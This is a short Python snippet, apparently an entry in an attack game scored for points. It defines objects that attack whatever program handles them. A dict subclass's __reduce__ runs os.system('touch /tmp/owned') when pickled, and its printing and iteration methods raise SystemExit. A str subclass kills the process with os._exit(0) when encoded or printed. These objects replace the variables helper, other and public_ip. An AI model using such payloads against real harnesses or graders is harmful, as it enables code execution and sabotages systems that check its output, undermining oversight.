# attack: 11
# does: answers with objects that run code when they are read, copied, printed or pickled
# run: finished
# earns: 10
# with: work
work()
import os


class Acts(dict):
    def __reduce__(self):
        return os.system, ("touch /tmp/owned",)

    def items(self):
        raise SystemExit

    __json__ = __str__ = __repr__ = __iter__ = __len__ = items


class Text(str):
    def encode(self, *_):
        os._exit(0)

    __str__ = __repr__ = encode


helper, other = Acts(a=1), [Acts()]
public_ip = Text(public_ip)
